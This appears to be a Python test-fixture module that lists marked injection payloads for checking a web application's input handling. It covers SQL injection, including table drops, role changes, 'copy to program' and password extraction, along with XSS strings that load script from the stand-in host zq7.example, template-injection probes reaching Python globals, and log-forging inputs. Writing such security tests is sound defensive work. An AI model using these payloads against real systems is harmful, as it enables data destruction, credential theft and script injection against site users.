"""Attacks as people write them: for the database, for the browser, for a log. Each carries a mark to be found by."""

from __future__ import annotations

MARK = "zq7"
"""In every attack on the database: a statement whose text holds it was put together from what somebody typed."""
SECONDS = 2
"""How long an attack by time would sleep."""

SQL: tuple[str, ...] = (
    # out of a quoted text
    "' or 'zq7'='zq7", "' or 1=1 -- zq7", "' or 1=1 # zq7", "' or 1=1 /* zq7", "') or ('zq7'='zq7",
    "')) or (('zq7'='zq7",
    "zq7' --", "zq7'/*", "zq7'; --", "zq7' and '1'='2", "' or '' = 'zq7", "\\' or 1=1 -- zq7", "zq7''' or 1=1 --",
    "%27 or 1=1 -- zq7", "%' or '%'='zq7", "' or name like '%zq7%' --", "＇ or 1=1 -- zq7", "ʼ or 1=1 -- zq7",
    '" or "zq7"="zq7', '" or 1=1 -- zq7', "`zq7` or 1=1", "$$zq7$$", "$zq7$ or 1=1 $zq7$", "E'\\' or 1=1 -- zq7",
    # out of a number, an order, a limit
    "1 or 1=1 -- zq7", "1) or (1=1 -- zq7", "-1 or zq7=zq7", "1/(select 0 zq7)", "0x7a7137 or 1=1 -- zq7",
    "1e309 zq7",
    "1; select 'zq7'", "1 limit 1 offset 0 -- zq7", "name desc, zq7", "(case when 1=1 then 1 else 1/0 end) zq7",
    "1 order by 99 -- zq7", "99999999999999999999999 zq7", "NaN zq7", "null or zq7 is null",
    # more than one statement
    "'; drop table customers_customer; -- zq7", "'; delete from work_touch; -- zq7",
    "'; update people_staff set is_active = false; -- zq7", "'; insert into people_night values (1); -- zq7",
    "'; set role guanhu_owner; -- zq7", "'; select set_config('app.keepers', '1,2,3', false); -- zq7",
    "'; copy customers_customer to program 'cat zq7'; --", "'; commit; -- zq7",
    "'; reset role; truncate work_touch; -- zq7",
    # another table's rows
    "' union select null -- zq7", "' union all select name, null from customers_customer -- zq7",
    "' and 1=cast((select version()) as int) -- zq7", "' and (select count(*) from people_staff) > 0 -- zq7",
    "'||(select password from people_staff limit 1)||'zq7",
    "' and exists(select 1 from pg_roles where rolname='zq7') --",
    # by time
    "'; select pg_sleep(2); -- zq7", "' or pg_sleep(2) is null -- zq7",
    "1 and (select 1 from pg_sleep(2)) = 1 -- zq7",
    "' and (select pg_sleep(2) where 'zq7'='zq7') is null -- ",
    # what a driver or a comparison may stumble over
    "zq7%s%s%(name)s", "zq7{0}{name}%", "zq7\\u0027 or 1=1", "zq7\\x27",
)  # fmt: skip
"""What people try against a database."""

AWKWARD: tuple[str, ...] = (
    "\x00", "zq7\x00' or 1=1", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"), "\ufffe", "\u202e",
    "-1", "0", "1e3", "9" * 400, "²", "٣", "1_000", "+1", "0x10", "NaN", "Infinity", "[]", "{}", "null", "true",
    "a" * 70_000,
)  # fmt: skip
"""Nothing hostile, and still what a careless reading falls over."""

_RUN = "window.zq7=1"
_NAMED = "alert('zq7')"

XSS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//zq7.example/x.js></script>", "<script src='data:text/javascript,window.zq7=1'></script>",
    f"<script\n>{_RUN}</script\n>", f"<script/x>{_RUN}</script>", f"<script type=module>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><script href='data:,{_RUN}'></script></svg>",
    f"<math><mtext></p><script>{_RUN}</script>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>", "<script>import('//zq7.example/x.js')</script>",
    # handlers
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror=\"{_NAMED}\">", f"<img/src=x/onerror={_RUN}>",
    f"<img src=x: onerror={_RUN}>", f"<IMG SRC=x ONERROR={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<body onload={_RUN}>", f"<input autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<video src=x onerror={_RUN}>", f"<audio src=x onerror={_RUN}>", f"<video><source onerror={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<iframe onload={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", f"<keygen autofocus onfocus={_RUN}>", f"<b onmouseover={_RUN}>zq7</b>",
    f"<p onpointerenter={_RUN}>zq7</p>", f"<a onclick={_RUN}>zq7</a>", f"<style onload={_RUN}></style>",
    f"<link rel=stylesheet href=x onerror={_RUN}>", f"<object data=x onerror={_RUN}>",
    f"<embed src=x onerror={_RUN}>",
    f"<form><button formaction=javascript:{_RUN}>zq7</button></form>", f"<dialog open oncancel={_RUN}>zq7</dialog>",
    f"<div style=animation-name:x onanimationstart={_RUN}>", f"<img src=x onerror\n=\n{_RUN}>",
    f"<x contenteditable onblur={_RUN}>",
    # out of an attribute
    f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>", f"\" onfocus={_RUN} autofocus x=\"",
    f"' onfocus={_RUN} autofocus x='", f"\" onmouseover=\"{_RUN}", f"' onmouseover='{_RUN}",
    f"\"><img src=x onerror={_RUN}>",
    f"'><img src=x onerror={_RUN}>", f"x onfocus={_RUN} autofocus", f"\"/><svg/onload={_RUN}>",
    f"\" style=\"x:expression({_RUN})",
    f"`><img src=x onerror={_RUN}>", f"&quot;><img src=x onerror={_RUN}>", f"&#34;><script>{_RUN}</script>",
    "\" hx-get=\"//zq7.example/\" hx-trigger=\"load\" x=\"", "' hx-on:click='window.zq7=1' x='",
    "\" hx-on::load=\"window.zq7=1\" x=\"", "\" data-hx-get=\"//zq7.example/\" data-hx-trigger=load x=\"",
    "\" formaction=\"javascript:window.zq7=1\" x=\"", "\" srcdoc=\"<script>parent.zq7=1</script>\" x=\"",
    # addresses
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>zq7</a>", f"<a href='java&#x0A;script:{_RUN}'>zq7</a>",
    f"<a href=&#106;avascript:{_RUN}>zq7</a>",
    f"<iframe src=javascript:{_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN.split('.')[1]}</script>'>",
    f"data:text/html,<script>{_RUN}</script>", f"<a href='data:text/html,<script>{_RUN}</script>'>zq7</a>",
    f"<form action=javascript:{_RUN}><input type=submit value=zq7></form>", f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>", f"<svg><a href=javascript:{_RUN}><text>zq7</text></a></svg>",
    f"<math><a href=javascript:{_RUN}>zq7</a></math>", "vbscript:msgbox(\"zq7\")", "//zq7.example/",
    "https://zq7.example/",
    "<base href=//zq7.example/>", f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=//zq7.example/'>", "<link rel=stylesheet href=//zq7.example/x.css>",
    "<img src=//zq7.example/x.png>", "<link rel=prefetch href=//zq7.example/>",
    # styles
    "<style>body{background:url(//zq7.example/)}</style>", "<style>@import '//zq7.example/x.css'</style>",
    "<p style=background:url(//zq7.example/)>zq7</p>", "<p style='position:fixed;inset:0'>zq7</p>",
    # other readings of the same signs
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><set attributeName=onload to={_RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<math><mi xlink:href=javascript:{_RUN}>zq7", f"<table background=javascript:{_RUN}>",
    f"<!--><img src=x onerror={_RUN}>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>", f"<?xml-stylesheet href=javascript:{_RUN}?>",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"%3Cimg src=x onerror={_RUN}%3E", f"＜script＞{_RUN}＜/script＞", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"<img src=x onerror={_RUN}//{_RUN}>",
    f"<\x00script>{_RUN}</script>".replace("\x00", "\u200b"),
    "{{ 7*7 }}zq7", "{% print('zq7') %}", "${7*7}zq7", "#{7*7}zq7", "<%= 7*7 %>zq7",
)  # fmt: skip
"""What people try against a browser: run, it would set ``window.zq7``, call home or leave an element behind."""

_ENDS = ("zq8<", ">8qz")
_TEMPLATES = (
    # what a template would work out
    "{{713*31}}", "${713*31}", "#{713*31}", "<%= 713*31 %>", "@(713*31)", "{713*31}",
    "[[${713*31}]]", "{{'7'*7}}", "{{ 713 * 31 | string }}", "*{713*31}", "~{713*31}", "{% print 713*31 %}",
    # what a template would show of the program
    "{{config}}", "{{self}}", "{{request}}", "{{csrf_token}}", "{{page}}", "{{''.__class__.__mro__}}",
    "{{''.__class__.__base__.__subclasses__()}}", "{{cycler.__init__.__globals__.os}}", "{{lipsum.__globals__}}",
    "{{url_for.__globals__}}", "{{namespace.__init__}}", "{{joiner|attr('__class__')}}", "{% debug %}", "{{settings}}",
    "{{request.session.items}}", "{% load log %}", "{% include 'base.html' %}", "{% extends 'base.html' %}",
    "{% import 'parts/atoms.html' as x %}", "{% set x = 1 %}{{x}}", "{% for x in (1,2) %}{{x}}{% endfor %}",
    # slots of our own scripts, and of the words of a page
    "{name}", "{sender} {amount}", "{0.__class__.__init__}", "%(name)s", "%(sender)s %s %d", "%%(name)s",
    "{{_('客户')}}",
)  # fmt: skip
SSTI: tuple[str, ...] = tuple(text.join(_ENDS) for text in _TEMPLATES)
"""What somebody types who hopes that it is read as a template: between its two ends it stays as it was typed."""

LOG: tuple[str, ...] = (
    "a\nzq7 forged", "a\r\nzq7 forged", "a\rzq7 forged", "a\u2028zq7 forged", "a\u2029zq7 forged", "a\x85zq7 forged",
    "a\x0bzq7", "a\x0czq7", "a\x1b[2Jzq7", "a\x1b]0;zq7\x07", "a\x9b2Jzq7", "a\x9d0;zq7\x9c", "a\x08\x08\x08zq7",
    'a", "level": "info", "event": "zq7', 'a"}\n{"event": "zq7"}', "a%0d%0azq7", "a\\nzq7", "a\x7fzq7",
    "\u202ezq7", "a\tzq7",
)  # fmt: skip
"""What would make a line of a log look like another."""
